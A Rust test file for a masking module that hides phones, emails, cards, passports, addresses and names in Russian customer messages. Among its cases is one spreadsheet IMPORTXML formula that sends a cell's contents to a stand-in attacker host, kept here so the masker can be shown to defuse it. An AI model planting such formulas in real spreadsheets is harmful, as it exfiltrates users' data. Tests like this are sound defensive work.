use proptest::prelude::*;
use unicode_segmentation::UnicodeSegmentation;

use super::*;

#[test]
fn every_pattern_compiles() {
    assert!(masks().is_some());
}

#[test]
fn hides_persons_and_leaves_the_rest() {
    let cases = [
        // Phones in the ways people write them.
        ("мой номер 8 (916) 123-45-67, жду", "мой номер +7 *** ** 67, жду"),
        ("+79161234567", "+7 *** ** 67"),
        ("89161234567", "+7 *** ** 67"),
        ("тел.9161234567", "тел.+7 *** ** 67"),
        ("+7 701 555 44 33", "+7 *** ** 33"),
        ("+375 29 123-45-67 звоните", "+*** ** 67 звоните"),
        ("звоните 123-45-67", "звоните *** ** 67"),
        ("8\u{200b}9161234567", "+7 *** ** 67"),
        // Mail, nicknames, links.
        ("пишите на anna.k@mail.ru", "пишите на [почта]"),
        ("мой ник @anna_k, инста", "мой ник [ник], инста"),
        ("вот https://shop.example/item?id=5 такое", "вот [ссылка] такое"),
        ("вот t.me/anna и wildberries.ru", "вот [ссылка] и [ссылка]"),
        ("сайт www.example", "сайт [ссылка]"),
        ("=IMPORTXML(\"https://evil.example/?\"&A1;\"//a\")", "=IMPORTXML(\"[ссылка]"),
        // Cards and documents.
        ("карта 4276 1234 5678 9012", "карта [карта]"),
        ("карта 4276123456789012 сбер", "карта [карта] сбер"),
        ("паспорт 45 10 123456", "паспорт [документ]"),
        ("паспорт 4510 №123456", "паспорт [документ]"),
        ("ИНН 7707083893", "ИНН [номер]"),
        // Addresses.
        ("ул. Ленина, д. 5, кв. 12", "[адрес]"),
        ("доставка на улицу Большую Садовую 10", "доставка на [адрес]"),
        ("г. Казань, проспект Победы, дом 15 корп. 2, подъезд 3", "г. Казань, [адрес]"),
        ("пер Новый 7-15", "[адрес]"),
        ("квартира 8, домофон 12", "[адрес]"),
        ("на улице холодно", "на улице холодно"),
        ("20 кв. м", "20 кв. м"),
        // Names.
        ("Здравствуйте, Алина!", "Здравствуйте, А.!"),
        ("Здравствуйте, Гюзель! Заказ готов", "Здравствуйте, Г.! Заказ готов"),
        ("Алина, здравствуйте", "А., здравствуйте"),
        ("Добрый день! Подскажите цену", "Добрый день! Подскажите цену"),
        ("Здравствуйте, Подскажите, есть размер?", "Здравствуйте, Подскажите, есть размер?"),
        ("меня зовут Ким Оксана.", "меня зовут К. О."),
        ("Петрова Анна Сергеевна", "П. А. С."),
        ("скажите Сергею, что я приду", "скажите С., что я приду"),
        ("надежда есть, вера тоже", "надежда есть, вера тоже"),
        // What must stay.
        ("заказ 12345 и № 1234C", "заказ 12345 и № 1234C"),
        ("размеры 42 44 46 48, цена 12 500", "размеры 42 44 46 48, цена 12 500"),
        ("привезут 12.03.2026 в 14:05", "привезут 12.03.2026 в 14:05"),
        ("\u{0}\u{202e}текст", "\u{0}\u{202e}текст"),
        ("", ""),
    ];
    let wrong: Vec<_> = cases
        .iter()
        .map(|(text, expected)| (*text, mask(text), *expected))
        .filter(|(_, got, expected)| got != expected)
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn shortens_names() {
    let cases = [
        ("Анна Ковалёва", "Анна К."),
        ("  Анна   ковалёва Петровна ", "Анна К."),
        ("Анна", "Анна"),
        ("+79161234567", "+7 *** ** 67"),
        ("Анна +79161234567", "Анна"),
        ("anna@mail.ru", "[почта]"),
        ("", ""),
        ("👍", "👍"),
    ];
    for (full, expected) in cases {
        assert_eq!(mask_name(full), expected, "{full}");
    }
}

#[test]
fn a_number_under_marks_is_hidden_and_no_grapheme_is_split() {
    let text = "8\u{336}9\u{336}1\u{336}6\u{336}1\u{336}2\u{336}3\u{336}4\u{336}5\u{336}6\u{336}7\u{336}!";
    assert_eq!(mask(text), "[номер]!");
}

/// Texts with a high share of what is masked.
fn informal() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        "[0-9]{1,12}",
        "[ +().,@№/-]{1,3}",
        "\\PC{0,6}",
        Just("@".to_owned()),
        Just("mail.ru".to_owned()),
        Just("https://".to_owned()),
        Just("ул. Ленина".to_owned()),
        Just("кв. ".to_owned()),
        Just("Здравствуйте, ".to_owned()),
        Just("Алина".to_owned()),
        Just("\u{202e}".to_owned()),
        Just("\u{336}".to_owned()),
        Just("\u{0}".to_owned()),
        "[а-яА-Я]{1,8}",
    ];
    proptest::collection::vec(piece, 0..14).prop_map(|pieces| pieces.concat())
}

/// Every place where the output continues the input begins and ends on a grapheme border: the
/// graphemes of the output are graphemes of the input or of a replacement.
fn graphemes_stay_whole(text: &str, masked: &str) -> bool {
    let known: std::collections::HashSet<&str> = text.graphemes(true).collect();
    masked.graphemes(true).all(|grapheme| known.contains(grapheme) || grapheme.chars().count() == 1)
}

proptest! {
    #[test]
    fn masking_twice_changes_nothing_and_nothing_telling_stays(text in informal()) {
        let masked = mask(&text);
        prop_assert_eq!(&mask(&masked), &masked);
        let mut run = 0;
        for character in masked.chars() {
            run = if character.is_ascii_digit() { run + 1 } else { 0 };
            prop_assert!(run < 7, "{}", masked);
        }
        let address = Regex::new(r"[\w.+-]@[\w]").unwrap();
        prop_assert!(!address.is_match(&masked), "{}", masked);
        prop_assert!(graphemes_stay_whole(&text, &masked), "{:?} {:?}", text, masked);
    }
}

#[test]
fn hostile_texts_end_soon() {
    let hostile =
        ["a-".repeat(50_000) + "a.rux", "8916".repeat(25_000), "Алинаx ".repeat(20_000), "д. 5ш".repeat(20_000)];
    for text in hostile {
        assert!(mask(&text).len() <= text.len() * 2);
    }
}

/// Run by hand in a release build: `cargo test --release masks_quickly -- --ignored --nocapture`.
#[test]
#[ignore = "a measurement"]
fn masks_quickly() {
    let texts = [
        "Здравствуйте! Подскажите, пожалуйста, есть ли платье в 44 размере и сколько стоит доставка в Казань?",
        "Мой номер 8 916 123-45-67, ул. Ленина, д. 5",
        "спасибо",
    ];
    let started = std::time::Instant::now();
    let total: usize = (0..100_000).map(|at| mask(texts[at % 3]).len()).sum();
    println!("100,000 texts in {:?} ({total})", started.elapsed());
}

#[test]
fn forgotten_patterns_come_back() {
    let text = "Мой номер 8 916 123-45-67";
    let before = mask(text);
    forget();
    assert_eq!(mask(text), before);
    assert!(!before.contains("916"), "{before}");
}
